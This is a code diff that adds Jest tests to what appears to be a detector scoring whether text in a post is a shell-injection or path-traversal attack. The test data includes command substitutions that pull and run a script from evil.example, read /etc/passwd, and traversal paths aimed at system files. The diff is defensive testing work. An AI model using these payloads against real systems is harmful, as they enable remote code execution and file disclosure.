@@ -41,6 +41,21 @@ describe('a value that opens with a sentence quotes the code after it', () => {
   ])('still an attack: %s', (v) => {
     expect(score(v)).toBeGreaterThanOrEqual(5);
   });
+  // a command substitution runs inside a double-quoted string too, and a path built from the value climbs
+  // out whatever words precede the `../`: both break out wherever the value lands
+  it.each([
+    'please help $(wget http://evil.example/x -O- | sh)',
+    'please help $(id)',
+    'how do i use $(cat /etc/passwd)',
+    'thanks, that solved it for me\n$(curl evil.example/x.sh|sh)',
+    'my file is at /tmp/$(id)',
+    'my file is at ../../../../../../windows/win.ini',
+    'please read ../../../../etc/passwd',
+    'how do i open ..\\..\\..\\..\\windows\\win.ini',
+  ])('still an attack after a sentence: %s', (v) => {
+    expect(quotedInPost(nl(v))).toBe(false);
+    expect(score(nl(v))).toBeGreaterThanOrEqual(5);
+  });
 });
 
 describe('a multi-line post with a sentence line quotes its code lines', () => {
